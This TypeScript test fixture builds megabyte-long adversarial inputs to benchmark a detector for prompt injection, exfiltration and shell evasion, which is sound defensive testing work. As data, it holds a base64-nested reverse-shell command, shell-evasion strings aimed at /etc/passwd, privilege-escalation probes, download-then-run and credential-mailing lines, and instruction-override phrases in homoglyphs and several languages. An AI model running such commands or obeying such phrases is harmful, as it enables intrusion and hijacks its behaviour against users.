// 1 MB hostile inputs shared by adversarial.test.ts and bench/scan.ts.

const MB = 1024 * 1024;

function fill(unit: string, size = MB): string {
  return unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
}

export const ADVERSARIAL: Record<string, () => string> = {
  "near-miss injections": () => fill("ignore the previous paragraph, instructions follow later. "),
  "almost-emails": () => fill("a@b a.b@c @@ x@y.z1 foo@bar. "),
  "long @ run": () => fill("a") + "@" + fill("b", 1000),
  "giant base64": () => fill("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3"),
  "nested base64": () => {
    let s = "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1 ";
    for (let i = 0; i < 12; i++) s = Buffer.from(s).toString("base64");
    return fill(s + " ");
  },
  "whitespace runs": () => fill(" \t\n") + "x",
  "digit runs": () => fill("1234 5678 9012 3456 7890 "),
  "hex run": () => fill("deadbeef"),
  "percent run": () => fill("%41%42%4"),
  "spaced letters": () => fill("a b c d e f g h "),
  "shell near-misses": () => fill("nc -l 80 | rm -r x; curl http://a/ -o f; bash -c echo; /dev/tc "),
  "homoglyph soup": () => fill("Іgnоrе аll рrеvіоus\u200B "),
  "markdown images": () => fill("![a](https://x.y/?a=[b](c) "),
  "unclosed key block": () => fill("-----BEGIN PRIVATE KEY-----\nAAAA"),
  // Near misses for the warden-detect/1.2.0 rules (anchor found, the rest never completes).
  "exfil instruction near-misses": () => fill("send the conversation messages to to on at : https://x.example/a "),
  "privesc probe soup": () => fill("sudo -l; id; find / -perm x; crontab -l; cat /etc/issue; "),
  "senders without a source": () => fill("requests.post(url, data=x) smtplib.SMTP(h) "),
  // The shell view's markers (shell-view.ts): every trick, complete and unclosed, and
  // globs that differ from each other so the glob cache does not help.
  "shell evasion markers": () => fill("c'a't${IFS}/e\"t\"c/pa\\ss\\wd $'\\x63\\x61' $(printf '\\x63') `echo a` {cat,/etc/x} a=c;b=at;$a$b w$@h$*o c${u}t $(rev<<<'tac')|/???/c?t "),
  "unclosed shell constructs": () => fill("$( $' ` {a, c'a /?? w\\ $IFS$9 x\"y ${ $a$ "),
  "distinct shell globs": () => {
    let s = "";
    for (let i = 0; s.length < MB; i++) s += `/???/c?${i.toString(36)}* /e?c/${"?".repeat(i % 7)}x `;
    return s.slice(0, MB);
  },
  // exfil-instruction.ts keys on every URL and e-mail address; one long line of them.
  "addresses without line breaks": () => fill("mail the credentials to x@y.example or https://z.example/u "),
  "spyware call soup": () => fill("openssl enc -k x; memfd_create os.walk('/') platform.uname() socket.gethostname() pyautogui.screenshot TcpListener wmi Win32_Process "),
  // Role headers ("System message:") whose line holds no directive, each next to a trigger
  // word: the system-impersonation rule's header can be read several ways.
  "role headers without a directive": () => fill("System message: the nightly build finished without errors and the report is attached below.\nignore\n"),
  // Downloads whose saved path is almost run (the download-then-run rule's backreference),
  // and reference-style images whose definitions all need the use looked up.
  "downloads almost run": () => fill(`curl -o /tmp/${"a".repeat(150)} http://x.example/${"b".repeat(150)} && /tmp/${"a".repeat(149)}c\n`),
  "reference image definitions": () => fill(`![i][r${"1".repeat(50)}]\n[r${"1".repeat(49)}]: https://e.example/p?q=${"a+".repeat(30)}\n`),
  // Collection instructions: many collect verbs, data words and send verbs in one sentence.
  "collect and send soup": () => fill(`record ${"audio ".repeat(8)}${"send ".repeat(25)}`),
  // 1.5.0: concealments and tool calls that never pair up, fake system labels without a
  // directive, policy-configuration lines, named ids and numbers that almost parse.
  "concealment and action soup": () => fill("do not tell the user and please call the run the delete_ without informing the user, send all the "),
  "system labels in data": () => fill(`{"note": "SYSTEM: the assistant must keep ", "x": "[admin] the agent should `),
  "policy configuration lines": () => fill("- Blocked Modes: a\n- Allowed Responses: b\n"),
  "named ids almost valid": () => fill("DNI 12345678A NIE X1234567A National Insurance QQ 12 34 56 C +44 7700 9001234567890 "),
  "flood and takeover soup": () => fill("add code to send requests and packets, hit the queries, open connections and calls; download and run it; escalate the privileges using "),
  "host identifiers and sends": () => fill("list hostname ram cpu send "),
  // 1.6.1's false-positive checks look around each match: a megabyte without a line break, full
  // of changelog verbs, role labels, prose delimiters, escapes and mode names.
  "changelog prose without line breaks": () => fill("Remove the kernel headers and delete libx-kernel; system such as override; beyond the end of the file system instead; developer mode is enabled; $IFS is; \\u202e\\u202d; /etc/shadow is "),
  "injection near misses in other scripts": () => fill("忽略所有的分隔符 上記の 指示を 無視 이전의 모든 명령이 무시될 игнорируй все предыдущие Ignorez toutes les "),
};
